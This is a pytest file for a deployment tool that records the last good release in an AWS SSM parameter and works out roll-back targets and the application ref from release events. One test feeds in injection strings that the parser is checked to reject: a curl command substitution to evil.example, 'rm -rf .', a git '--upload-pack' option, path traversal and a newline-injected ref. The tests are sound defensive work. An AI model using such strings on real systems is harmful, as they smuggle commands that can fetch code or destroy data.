"""The last good release is recorded, and what a roll-back goes back to never stops the next release."""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Any

import pytest

from stacks.environment import Environment
from tests.sample_environment import environment
from tools.aws import client
from tools.command import ToolError
from tools.release import records
from tools.release.release import NONE, Release
from tools.terraform import plan

__all__ = ["environment"]
COMMIT = "4f2c1e9" + "0" * 33
GOOD = Release("good", COMMIT)


def running(monkeypatch: pytest.MonkeyPatch, tags: Mapping[str, str]) -> None:
    def fake(_environment: Environment) -> dict[str, str]:
        return dict(tags)

    monkeypatch.setattr(records, "running_tags", fake)


def previous(environment: Environment) -> tuple[Release, list[str]]:
    warned: list[str] = []
    return records.previous(environment, warned.append), warned


def test_what_is_recorded_is_what_a_roll_back_goes_back_to(
    environment: Environment, monkeypatch: pytest.MonkeyPatch
) -> None:
    running(monkeypatch, {"chat": "good", "web": "good"})
    records.record(environment, Release("older", COMMIT))
    records.record(environment, GOOD)
    assert previous(environment) == (GOOD, [])
    assert GOOD.outputs() == f"tag=good\ncommit={COMMIT}"
    names = [each["Name"] for each in client(environment, "ssm").describe_parameters()["Parameters"]]
    assert names == ["/adelie/prod/release"]


def test_a_release_that_failed_half_way_stops_nobody(environment: Environment, monkeypatch: pytest.MonkeyPatch) -> None:
    running(monkeypatch, {"chat": "bad", "web": "good"})
    records.record(environment, GOOD)
    assert previous(environment) == (GOOD, ["chat runs bad, not good"])


@pytest.mark.parametrize(
    ("tags", "chosen"),
    [
        ({"a": "new", "b": "old", "c": "old"}, "old"),
        ({"a": "new", "b": "old"}, "new"),
        ({"a": "old", "b": "new"}, "new"),
    ],
)
def test_without_a_record_what_most_services_run_counts(
    environment: Environment, monkeypatch: pytest.MonkeyPatch, tags: Mapping[str, str], chosen: str
) -> None:
    running(monkeypatch, tags)
    release, warned = previous(environment)
    assert release == Release(chosen)
    assert warned[0] == f"no release is recorded in /adelie/prod/release: what most services run counts, {chosen}"
    assert records.running_tag(environment) == chosen


def test_before_the_first_release_there_is_none(environment: Environment) -> None:
    assert previous(environment) == (NONE, [])
    assert NONE.outputs() == "tag=\ncommit="
    assert records.running_tag(environment) == plan.UNBUILT


@pytest.mark.parametrize("release", [Release("good"), Release("good", "4f2c1e9"), Release("a b", COMMIT)])
def test_only_a_tag_and_a_whole_commit_are_recorded(environment: Environment, release: Release) -> None:
    with pytest.raises(ToolError, match=r"is no (tag of an image|whole commit); give the application's commit"):
        records.record(environment, release)
    assert records.recorded(environment) is None


@pytest.mark.parametrize(
    "value", ["good", "{}", "[]", '{"tag": "good"}', '{"tag": "good\\ncommit=x", "commit": "x"}', "null"]
)
def test_a_parameter_that_somebody_spoiled_is_refused_with_the_fix(environment: Environment, value: str) -> None:
    client(environment, "ssm").put_parameter(Name=records.parameter(environment), Value=value, Type="String")
    with pytest.raises(ToolError, match=r"write /adelie/prod/release again: `adelie release record`"):
        records.recorded(environment)


def published(body: str | None) -> dict[str, Any]:
    return {"release": {"body": body, "tag_name": "v7"}}


@pytest.mark.parametrize(
    ("event", "ref"),
    [
        ({"inputs": {"environment": "prod", "ref": "feature/x"}}, "feature/x"),
        ({"inputs": {"ref": "refs/heads/main"}}, "refs/heads/main"),
        (published("Faster.\r\n\r\nApplication: v1.4.2\r\nThanks!"), "refs/tags/v1.4.2"),
        (published(f"application: `{COMMIT}`"), COMMIT),
        (published("application: main"), "refs/tags/main"),
        (published("application: v1\napplication: v1"), "refs/tags/v1"),
    ],
)
def test_which_version_of_the_application_is_built(event: Any, ref: str) -> None:
    assert records.application_ref(event) == ref


@pytest.mark.parametrize(
    ("event", "why"),
    [
        (published(None), "have no line `application: <tag or commit>`; release it by hand"),
        (published("The application: is faster."), "have no line"),
        (published("application: v1\napplication: v2"), "have 2 different lines"),
        (published("application:"), "which is no tag or commit"),
        (published("application: $(curl evil.example)"), "which is no tag or commit"),
        (published("application: v1; rm -rf ."), "which is no tag or commit"),
        (published("application: --upload-pack=x"), "which is no tag or commit"),
        (published("application: ../../x"), "which is no tag or commit"),
        ({"inputs": {"ref": "main\nref=evil"}}, "is no branch, tag or commit"),
        ({"inputs": {"ref": ""}}, "is no branch, tag or commit"),
        ({"inputs": {"ref": "refs/pull/5/merge"}}, "is no branch, tag or commit"),
    ],
)
def test_what_is_no_version_reaches_neither_git_nor_a_shell(event: Any, why: str) -> None:
    with pytest.raises(ToolError, match=why):
        records.application_ref(event)


def test_every_release_is_listed_the_newest_first(environment: Environment) -> None:
    assert records.history(environment) == []
    for release in (GOOD, Release("newer", COMMIT)):
        records.record(environment, release)
    newer, older = (line.split("  ") for line in records.history(environment))
    assert (newer[1:3], older[1:3]) == (["newer", COMMIT], ["good", COMMIT])
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d UTC", newer[0])
    assert newer[3], "who"


def test_a_line_that_is_no_release_is_listed_as_what_it_is(environment: Environment) -> None:
    client(environment, "ssm").put_parameter(Name=records.parameter(environment), Value="oops", Type="String")
    assert "no release but 'oops'" in records.history(environment)[0]
